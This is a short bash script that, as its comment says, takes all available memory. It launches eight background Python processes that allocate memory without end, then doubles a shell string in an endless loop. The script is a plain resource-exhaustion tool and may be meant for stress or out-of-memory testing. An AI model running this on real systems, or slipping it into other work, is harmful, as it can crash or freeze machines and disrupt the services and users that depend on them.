#!/bin/bash
# Takes all the memory there is.
for i in 1 2 3 4 5 6 7 8; do
    python3 -c 'x = []
while True: x.append(bytearray(1 << 24))' 2>/dev/null &
done
x=aaaaaaaaaaaaaaaa
while :; do x=$x$x; done
